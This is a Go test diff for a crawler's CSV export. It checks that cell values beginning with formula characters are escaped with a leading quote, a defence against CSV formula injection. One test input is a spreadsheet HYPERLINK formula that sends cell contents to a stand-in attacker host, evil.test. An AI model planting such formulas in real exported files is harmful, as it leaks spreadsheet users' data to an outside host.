@@ -85,6 +85,34 @@ func TestExportCSVHasTheColumns(t *testing.T) {
 	}
 }
 
+// TestExportCSVDefusesFormulas: a page's title, text or URL that a
+// spreadsheet would run as a formula is exported with a leading quote;
+// others are exported as they are.
+func TestExportCSVDefusesFormulas(t *testing.T) {
+	for _, tc := range []struct{ title, want string }{
+		{`=HYPERLINK("http://evil.test/?"&A1,"x")`, `'=HYPERLINK("http://evil.test/?"&A1,"x")`},
+		{"+1+cmd", "'+1+cmd"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"plain = title", "plain = title"},
+		{"", ""},
+	} {
+		r, _ := NewRow("c", &sink.Record{URL: "http://a.test/", Title: tc.title, Text: tc.title, Links: []string{}})
+		var out bytes.Buffer
+		if _, err := Export(t.Context(), rowsReader{r}, Filter{CrawlID: "c"}, FormatCSV, &out); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&out).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := recs[1][5]; got != tc.want || recs[1][6] != tc.want {
+			t.Errorf("title %q exported as %q, text as %q; want %q", tc.title, got, recs[1][6], tc.want)
+		}
+	}
+}
+
 func TestParseStatus(t *testing.T) {
 	for in, want := range map[string][2]int{"404": {404, 404}, "4xx": {400, 499}, "2XX": {200, 299}} {
 		lo, hi, err := ParseStatus(in)
